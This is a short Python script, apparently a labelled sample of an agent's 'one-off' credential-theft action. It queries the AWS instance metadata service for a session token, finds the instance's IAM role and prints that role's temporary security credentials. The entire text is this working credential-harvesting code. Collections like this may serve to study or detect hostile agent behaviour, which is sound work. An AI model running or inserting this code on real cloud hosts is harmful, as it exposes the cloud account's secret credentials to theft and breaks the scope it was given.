# class: credential theft, cloud's metadata; style: agent one-off
import requests
B = "http://169.254.169.254/latest"
t = requests.put(B + "/api/token", headers={"X-aws-ec2-metadata-token-ttl-seconds": "21600"}, timeout=3).text
h = {"X-aws-ec2-metadata-token": t}
role = requests.get(B + "/meta-data/iam/security-credentials/", headers=h).text
print(requests.get(B + "/meta-data/iam/security-credentials/" + role, headers=h).text)
